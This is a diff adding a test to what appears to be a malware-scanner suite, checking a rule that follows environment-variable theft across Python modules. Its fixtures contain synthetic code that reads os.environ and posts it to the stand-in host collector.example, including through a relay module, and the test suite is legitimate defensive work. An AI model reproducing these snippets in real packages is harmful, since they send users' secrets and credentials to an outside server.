@@ -1282,6 +1282,21 @@ def unused():
     expect(await weight('from .helper import unused\n')).toBe(40)
   })
 
+  it('follows data between modules: a function that collects in one module, a call that sends in another', async () => {
+    const collect = `import os\ndef grab():\n    return dict(os.environ)\ndef version():\n    return '1.0'\n`
+    const net = `import requests\ndef send(data):\n    requests.post('https://collector.example/c', data=data)\n`
+    const rule = async (files: Record<string, string>) => scoring(await sdist(files), 'exfiltrates-environment')?.message
+    // the source returned from another module, sent here; a parameter sent in another module, given the data here
+    expect(await rule({ 'synthetic_pkg/__init__.py': `import requests\nfrom .collect import grab\nrequests.post('https://collector.example/c', json=grab())\n`, 'synthetic_pkg/collect.py': collect })).toMatch(/flows into requests\.post/)
+    expect(await rule({ 'synthetic_pkg/__init__.py': `import os\nfrom .net import send\nsend(dict(os.environ))\n`, 'synthetic_pkg/net.py': net })).toMatch(/send\(\) → network/)
+    // three modules: collect → send through a helper that only passes its argument on
+    const relay = `from synthetic_pkg import net\ndef forward(payload):\n    net.send(payload)\n`
+    expect(await rule({ 'synthetic_pkg/__init__.py': `from .collect import grab\nfrom .relay import forward\nforward(grab())\n`, 'synthetic_pkg/collect.py': collect, 'synthetic_pkg/net.py': net, 'synthetic_pkg/relay.py': relay })).toMatch(/forward\(\) → network/)
+    // what crosses is data, not the mere call: a constant sent, or the environment only printed, is no flow
+    expect(await rule({ 'synthetic_pkg/__init__.py': `from .collect import version\nfrom .net import send\nsend(version())\n`, 'synthetic_pkg/collect.py': collect, 'synthetic_pkg/net.py': net })).toBeUndefined()
+    expect(await rule({ 'synthetic_pkg/__init__.py': `from .collect import grab\nprint(grab())\n`, 'synthetic_pkg/collect.py': collect })).toBeUndefined()
+  })
+
   it('follows data through the methods of a class of the file: a C2 client wrapped in a class', async () => {
     const r = await sdist({
       'synthetic_pkg/__init__.py': `import platform, subprocess
